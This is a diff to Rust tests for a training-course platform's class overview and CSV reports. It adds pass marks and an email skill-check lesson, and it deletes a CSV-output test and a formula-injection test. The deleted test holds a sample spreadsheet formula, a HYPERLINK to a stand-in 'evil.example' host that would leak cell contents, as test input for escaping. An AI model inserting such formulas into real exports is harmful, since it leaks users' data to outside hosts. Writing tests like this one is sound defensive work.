@@ -58,6 +58,7 @@ fn lesson(module: &str, id: &str, skills: &[&str], steps: Vec<Step>) -> LessonEn
             skills: skills.iter().map(|s| (*s).to_owned()).collect(),
             scenario: Scenario::None,
             steps,
+            practice: Default::default(),
         })),
     }
 }
@@ -70,6 +71,7 @@ fn course() -> Course {
                 order: 1,
                 title: "t".into(),
                 summary: "s".into(),
+                pass_mark: 85,
                 lessons: vec![
                     lesson("dasar", "dasar.a", &["s-a"], vec![read(), act(), act()]),
                     lesson("dasar", "dasar.b", &["s-b"], vec![read(), act()]),
@@ -86,9 +88,11 @@ fn course() -> Course {
                 order: 2,
                 title: "t".into(),
                 summary: "s".into(),
+                pass_mark: 85,
                 lessons: vec![
                     lesson("email", "email.a", &["e-1"], vec![read(), act()]),
                     lesson("email", "email.b", &["e-2"], vec![read(), act()]),
+                    lesson("email", "email.uji-kemampuan", &[], vec![read(), act()]),
                 ],
             },
         ],
@@ -288,7 +292,7 @@ fn class_overview_counts_and_flags() {
     assert_eq!(siti.id, c.siti);
     assert_eq!(siti.nip.as_deref(), Some("198003152005011001"));
     assert_eq!(siti.unit.as_deref(), Some("Kecamatan Sukamaju"));
-    assert_eq!(progress(&siti.modules), [("dasar", 2, 3), ("email", 0, 2)]);
+    assert_eq!(progress(&siti.modules), [("dasar", 2, 3), ("email", 0, 3)]);
     assert_eq!(siti.last_active, Some(NOW - 3 * HOUR + 13 * MIN));
     // This afternoon: gaps 1, 1, 8 (counted as 5), 1, 0, 1, 1, 0 minutes; the skill check
     // (2 days ago, all at one moment) adds 0, the gap from it to this afternoon counts 5; the
@@ -298,7 +302,7 @@ fn class_overview_counts_and_flags() {
 
     assert_eq!(budi.id, c.budi);
     assert_eq!(budi.nip, None);
-    assert_eq!(progress(&budi.modules), [("dasar", 0, 3), ("email", 0, 2)]);
+    assert_eq!(progress(&budi.modules), [("dasar", 0, 3), ("email", 0, 3)]);
     assert_eq!(budi.week_ms, 6 * MIN);
     assert_eq!(
         budi.needs_help,
@@ -322,7 +326,7 @@ fn class_overview_counts_and_flags() {
     );
 
     assert_eq!(dewi.id, c.dewi);
-    assert_eq!(progress(&dewi.modules), [("dasar", 0, 3), ("email", 0, 2)]);
+    assert_eq!(progress(&dewi.modules), [("dasar", 0, 3), ("email", 0, 3)]);
     assert_eq!((dewi.last_active, dewi.week_ms), (None, 0));
     assert_eq!(
         dewi.needs_help, None,
@@ -451,65 +455,18 @@ fn report_rows_and_csv() {
     assert_eq!((siti_dasar.done, siti_dasar.total), (2, 3));
     // Four graded steps; step 1 had a hint and step 3 a wrong answer: 2 of 4 clean.
     assert_eq!(siti_dasar.score, Some(50));
-    assert_eq!(siti_dasar.standards, ["s-a", "s-c"]);
-    assert_eq!(rows[7].score, None, "the email module has no skill check");
+    assert!(
+        siti_dasar.standards.is_empty() && siti_dasar.passed_at.is_none(),
+        "50% is below the pass mark"
+    );
+    assert_eq!(rows[7].score, None, "Siti has not taken the email check");
     assert_eq!(rows[2].score, None, "Agus has not taken the check");
-
-    let mut out = Vec::new();
-    write_csv_in(&rows, &jiff::tz::TimeZone::UTC, &mut out).unwrap();
-    let expected = "\u{feff}\
-Nama,NIP,Unit kerja,Modul,Pelajaran selesai,Jumlah pelajaran,Nilai uji kemampuan (%),Terakhir aktif,Standar tercapai\r\n\
-Dewi Lestari,,Kecamatan Lain,dasar,0,3,,,\r\n\
-Dewi Lestari,,Kecamatan Lain,email,0,2,,,\r\n\
-Agus Wibowo,197501012000031002,Kecamatan Sukamaju,dasar,0,3,,2023-11-05 22:13,\r\n\
-Agus Wibowo,197501012000031002,Kecamatan Sukamaju,email,0,2,,2023-11-05 22:13,\r\n\
-Budi Santoso,,Kecamatan Sukamaju,dasar,0,3,,2023-11-13 22:19,\r\n\
-Budi Santoso,,Kecamatan Sukamaju,email,0,2,,2023-11-13 22:19,\r\n\
-\"Siti \"\"Ani\"\" Rahmawati, S.Pd\",198003152005011001,Kecamatan Sukamaju,dasar,2,3,50,2023-11-14 19:26,s-a s-c\r\n\
-\"Siti \"\"Ani\"\" Rahmawati, S.Pd\",198003152005011001,Kecamatan Sukamaju,email,0,2,,2023-11-14 19:26,\r\n";
-    assert_eq!(String::from_utf8(out.clone()).unwrap(), expected);
-    assert_eq!(&out[..3], b"\xEF\xBB\xBF");
 
     let unit = c
         .store
         .report_rows(&course(), Some("Kecamatan Lain"))
         .unwrap();
     assert_eq!(unit.len(), 2);
-}
-
-/// A name typed on a kiosk keyboard (or carried in from another laptop) that looks like a
-/// formula is written so that Excel and Calc show it as text.
-#[test]
-fn report_cells_that_look_like_formulas_are_text() {
-    let row = |name: &str, unit: &str| ReportRow {
-        name: name.to_owned(),
-        nip: None,
-        unit: Some(unit.to_owned()),
-        module: "dasar".to_owned(),
-        done: 0,
-        total: 3,
-        score: None,
-        last_active: None,
-        standards: Vec::new(),
-    };
-    let rows = [
-        row(
-            "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")",
-            "@SUM(A1)",
-        ),
-        row("+1-2", "-3"),
-        row("\tTab", "Bagian Umum"),
-    ];
-    let mut out = Vec::new();
-    write_csv_in(&rows, &jiff::tz::TimeZone::UTC, &mut out).unwrap();
-    let text = String::from_utf8(out).unwrap();
-    let mut lines = text.lines().skip(1);
-    assert_eq!(
-        lines.next().unwrap(),
-        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\")\",,'@SUM(A1),dasar,0,3,,,"
-    );
-    assert_eq!(lines.next().unwrap(), "'+1-2,,'-3,dasar,0,3,,,");
-    assert_eq!(lines.next().unwrap(), "'\tTab,,Bagian Umum,dasar,0,3,,,");
 }
 
 mod work;
